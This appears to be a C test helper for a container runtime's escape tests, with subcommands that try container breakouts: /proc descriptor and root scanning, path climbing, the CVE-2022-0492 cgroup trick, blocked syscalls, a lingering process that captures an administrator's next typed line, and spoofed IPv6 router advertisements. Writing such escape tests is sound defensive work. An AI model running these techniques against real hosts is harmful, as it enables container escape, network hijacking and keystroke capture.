/*
 * What a hostile process inside a poc container tries, one subcommand per attack. Each attempt
 * prints one line, "NAME ok" or "NAME errno N (TEXT)", or "ESCAPE ..." when it reached the host,
 * so the tests in tests/escape.rs can assert the refusal and its errno.
 * Built statically by tests/attack/build.sh (the test images have no libc).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <linux/if_packet.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int report(const char *what, long rc) {
  if (rc < 0) {
    int e = errno;
    printf("%s errno %d (%s)\n", what, e, strerror(e));
  } else {
    printf("%s ok\n", what);
  }
  fflush(stdout);
  return rc < 0 ? 1 : 0;
}

/* Reads the host-only marker through `dirfd` by climbing far enough to reach any root. */
static int try_marker(int dirfd, const char *marker, const char *token, const char *how) {
  char path[4096];
  snprintf(path, sizeof path, "../../../../../../../../../../../../../../..%s", marker);
  int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return 0;
  char buf[256] = {0};
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n > 0 && strstr(buf, token)) {
    printf("ESCAPE %s read the host marker\n", how);
    fflush(stdout);
    return 1;
  }
  return 0;
}

/*
 * fdscan ROUNDS MARKER TOKEN DEV INO: watches every other process's descriptors, cwd and exe (as a
 * process waiting for `poc exec` would) for a way to the host: a directory fd that climbs to the
 * host's marker file, or poc's own binary (host device and inode DEV:INO).
 */
static int fdscan(int rounds, const char *marker, const char *token, dev_t dev, ino_t ino) {
  char self[32];
  snprintf(self, sizeof self, "%d", getpid());
  int found = 0;
  for (int r = 0; r < rounds && !found; r++) {
    DIR *proc = opendir("/proc");
    if (!proc)
      return report("opendir /proc", -1);
    struct dirent *p;
    while ((p = readdir(proc)) && !found) {
      if (p->d_name[0] < '1' || p->d_name[0] > '9' || !strcmp(p->d_name, self))
        continue;
      char path[300];
      snprintf(path, sizeof path, "/proc/%s/exe", p->d_name);
      int exe = open(path, O_RDONLY | O_CLOEXEC);
      if (exe >= 0) {
        struct stat st;
        if (fstat(exe, &st) == 0 && st.st_dev == dev && st.st_ino == ino) {
          printf("ESCAPE opened poc's binary through %s\n", path);
          found = 1;
        }
        close(exe);
      }
      snprintf(path, sizeof path, "/proc/%s/cwd", p->d_name);
      int cwd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
      if (cwd >= 0) {
        found |= try_marker(cwd, marker, token, path);
        close(cwd);
      }
      /* Its root (with CAP_SYS_PTRACE), and its mount table, where the host's has a mount whose
       * source is the token. */
      snprintf(path, sizeof path, "/proc/%s/root", p->d_name);
      int root = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
      if (root >= 0) {
        found |= try_marker(root, marker, token, path);
        close(root);
      }
      snprintf(path, sizeof path, "/proc/%s/mountinfo", p->d_name);
      int mounts = open(path, O_RDONLY | O_CLOEXEC);
      if (mounts >= 0) {
        static char table[1 << 17];
        size_t used = 0;
        ssize_t n;
        while (used < sizeof table - 1 && (n = read(mounts, table + used, sizeof table - 1 - used)) > 0)
          used += n;
        table[used] = 0;
        close(mounts);
        if (strstr(table, token)) {
          printf("ESCAPE read the host's mount table through %s\n", path);
          found = 1;
        }
      }
      snprintf(path, sizeof path, "/proc/%s/fd", p->d_name);
      DIR *fds = opendir(path);
      if (!fds)
        continue;
      struct dirent *f;
      while ((f = readdir(fds)) && !found) {
        if (f->d_name[0] == '.')
          continue;
        char fdpath[600];
        snprintf(fdpath, sizeof fdpath, "%s/%s", path, f->d_name);
        int d = open(fdpath, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (d >= 0) {
          found |= try_marker(d, marker, token, fdpath);
          close(d);
        }
      }
      closedir(fds);
    }
    closedir(proc);
  }
  if (!found)
    printf("fdscan done\n");
  fflush(stdout);
  return found;
}

/* climb MARKER TOKEN: from the current directory (a working directory poc chose), to the host. */
static int climb(const char *marker, const char *token) {
  char cwd[4096];
  if (getcwd(cwd, sizeof cwd))
    printf("cwd %s\n", cwd);
  else
    printf("cwd errno %d (%s)\n", errno, strerror(errno));
  if (!try_marker(AT_FDCWD, marker, token, "the working directory"))
    printf("climb done\n");
  fflush(stdout);
  return 0;
}

/* cgroup-raise: CVE-2022-0492's setting: a new user namespace, cgroup v1 mounted there, and the
 * container's own memory limit raised. */
static int cgroup_raise(void) {
  if (report("unshare-user-mnt-cgroup", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)))
    return 1;
  mkdir("/tmp/cg", 0755);
  if (report("mount-cgroup-memory", mount("cgroup", "/tmp/cg", "cgroup", 0, "memory")))
    return 1;
  int fd = open("/tmp/cg/memory.limit_in_bytes", O_WRONLY);
  if (report("open-limit", fd))
    return 1;
  return report("write-limit", write(fd, "1073741824", 10));
}

static int opendev(const char *path) {
  char what[300];
  snprintf(what, sizeof what, "open %s", path);
  int fd = open(path, O_RDWR | O_CLOEXEC);
  int rc = report(what, fd);
  if (fd >= 0)
    close(fd);
  return rc;
}

static long perf_open(void) {
  struct perf_event_attr attr = {0};
  attr.type = PERF_TYPE_SOFTWARE;
  attr.size = sizeof attr;
  attr.config = PERF_COUNT_SW_CPU_CLOCK;
  return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
}

static long bpf_map(void) {
  union bpf_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.map_type = BPF_MAP_TYPE_ARRAY;
  attr.key_size = 4;
  attr.value_size = 4;
  attr.max_entries = 1;
  return syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
}

/* syscalls: the calls Docker's default profile refuses, each tried once. */
static int syscalls(void) {
  report("keyctl", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -4 /* session */, 0));
  report("add_key", syscall(SYS_add_key, "user", "poc-test", "x", 1, -4));
  report("unshare-user", unshare(CLONE_NEWUSER));
  report("unshare-net", unshare(CLONE_NEWNET));
  struct io_uring_params params = {0};
  report("io_uring_setup", syscall(SYS_io_uring_setup, 1, &params));
  report("perf_event_open", perf_open());
  report("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
  report("bpf", bpf_map());
  report("mount", mount("tmpfs", "/mnt", "tmpfs", 0, NULL));
  report("umount", umount2("/proc", MNT_DETACH));
  report("swapoff", swapoff("/"));
  report("setns", setns(0, CLONE_NEWNET));
  report("personality", syscall(SYS_personality, 0x0040000 /* ADDR_NO_RANDOMIZE */));
  report("clone-newuser", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
  report("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
  report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, 0, 0));
  report("init_module", syscall(SYS_init_module, 0, 0, ""));
  report("ptrace-attach-1", syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, 1, 0, 0));
  return 0;
}

/* linger SECONDS FILE: outlives the command that started it (its output closed, so nothing waits
 * for it), then reads whatever arrives on the stdin it was given into FILE: the administrator's
 * next typed line, if that stdin was their terminal. */
static int linger(int seconds, const char *file) {
  if (fork() != 0)
    return 0;
  setsid();
  int null = open("/dev/null", O_WRONLY);
  dup2(null, 1);
  dup2(null, 2);
  sleep(seconds);
  char buf[256];
  ssize_t n = read(0, buf, sizeof buf);
  int out = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (out >= 0 && n > 0)
    write(out, buf, n);
  return 0;
}

/* ra PREFIX_HEX: three IPv6 router advertisements from eth0 to all nodes, built by hand on a
 * packet socket (CAP_NET_RAW is enough; the container's own IPv6 being off does not stop them):
 * router lifetime 0 (no default route, even where believed) with PREFIX::/64 on-link and
 * autonomous for 120 s, so whoever takes them gains an address and a route in that prefix. */
static unsigned short icmp6_checksum(const unsigned char *src, const unsigned char *dst,
                                     const unsigned char *msg, int len) {
  unsigned long sum = 0;
  for (int i = 0; i < 16; i += 2)
    sum += (src[i] << 8 | src[i + 1]) + (dst[i] << 8 | dst[i + 1]);
  sum += len + 58;
  for (int i = 0; i < len; i += 2)
    sum += msg[i] << 8 | (i + 1 < len ? msg[i + 1] : 0);
  while (sum >> 16)
    sum = (sum & 0xffff) + (sum >> 16);
  return (unsigned short)~sum;
}

static int router_advert(const char *prefix) {
  int s = socket(AF_PACKET, SOCK_RAW, htons(0x86dd));
  if (s < 0)
    return report("ra socket", -1);
  struct ifreq ifr = {0};
  strcpy(ifr.ifr_name, "eth0");
  if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0)
    return report("ra eth0", -1);
  unsigned char *mac = (unsigned char *)ifr.ifr_hwaddr.sa_data;
  unsigned char frame[14 + 40 + 16 + 32] = {0};
  unsigned char *ip = frame + 14, *icmp = ip + 40;
  memcpy(frame, "\x33\x33\x00\x00\x00\x01", 6);
  memcpy(frame + 6, mac, 6);
  frame[12] = 0x86, frame[13] = 0xdd;
  ip[0] = 0x60, ip[5] = 48, ip[6] = 58, ip[7] = 255;
  unsigned char src[16] = {0xfe, 0x80}, dst[16] = {0xff, 0x02};
  src[8] = mac[0] ^ 2, src[9] = mac[1], src[10] = mac[2], src[11] = 0xff, src[12] = 0xfe;
  src[13] = mac[3], src[14] = mac[4], src[15] = mac[5], dst[15] = 1;
  memcpy(ip + 8, src, 16);
  memcpy(ip + 24, dst, 16);
  icmp[0] = ND_ROUTER_ADVERT, icmp[4] = 64;
  unsigned char *opt = icmp + 16;
  opt[0] = ND_OPT_PREFIX_INFORMATION, opt[1] = 4, opt[2] = 64;
  opt[3] = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
  opt[7] = 120, opt[11] = 60;
  for (int i = 0; i < 8 && prefix[2 * i]; i++)
    sscanf(prefix + 2 * i, "%2hhx", &opt[16 + i]);
  unsigned short sum = icmp6_checksum(src, dst, icmp, 48);
  icmp[2] = sum >> 8, icmp[3] = sum & 0xff;
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex("eth0"),
                           .sll_halen = 6};
  memcpy(to.sll_addr, frame, 6);
  long rc = 0;
  for (int i = 0; i < 3 && rc >= 0; i++) {
    rc = sendto(s, frame, sizeof frame, 0, (void *)&to, sizeof to);
    usleep(100000);
  }
  return report("ra", rc);
}

/* nest N DIR: N directories, each in the last, from DIR (each made and entered by a relative name,
 * so the depth is not limited by PATH_MAX). */
static int nest(int n, const char *dir) {
  if (report("chdir", chdir(dir)))
    return 1;
  for (int i = 0; i < n; i++) {
    if (mkdir("d", 0755) < 0 || chdir("d") < 0)
      return report("nest", -1);
  }
  int fd = open("deepest", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0)
    return report("deepest", -1);
  close(fd);
  printf("nested %d\n", n);
  fflush(stdout);
  return 0;
}

/* keyring: describes the session keyring this process was given (keyctl KEYCTL_DESCRIBE on
 * KEY_SPEC_SESSION_KEYRING, -3): "type;uid;gid;perm;description". */
static int keyring(void) {
  char desc[512] = {0};
  long n = syscall(SYS_keyctl, 6 /* KEYCTL_DESCRIBE */, -3, desc, sizeof desc - 1);
  if (n < 0)
    return report("keyctl describe", -1);
  printf("session keyring %s\n", desc);
  fflush(stdout);
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: attack fdscan|climb|cgroup-raise|opendev|syscalls|nest|keyring|linger|ra ...\n");
    return 2;
  }
  const char *cmd = argv[1];
  if (!strcmp(cmd, "fdscan") && argc == 7)
    return fdscan(atoi(argv[2]), argv[3], argv[4], (dev_t)strtoull(argv[5], 0, 10),
                  (ino_t)strtoull(argv[6], 0, 10));
  if (!strcmp(cmd, "climb") && argc == 4)
    return climb(argv[2], argv[3]);
  if (!strcmp(cmd, "cgroup-raise"))
    return cgroup_raise();
  if (!strcmp(cmd, "opendev") && argc >= 3) {
    int rc = 0;
    for (int i = 2; i < argc; i++)
      rc |= opendev(argv[i]);
    return rc;
  }
  if (!strcmp(cmd, "syscalls"))
    return syscalls();
  if (!strcmp(cmd, "ra") && argc == 3)
    return router_advert(argv[2]);
  if (!strcmp(cmd, "nest") && argc == 4)
    return nest(atoi(argv[2]), argv[3]);
  if (!strcmp(cmd, "keyring"))
    return keyring();
  if (!strcmp(cmd, "linger") && argc == 4)
    return linger(atoi(argv[2]), argv[3]);
  fprintf(stderr, "attack: bad arguments for %s\n", cmd);
  return 2;
}
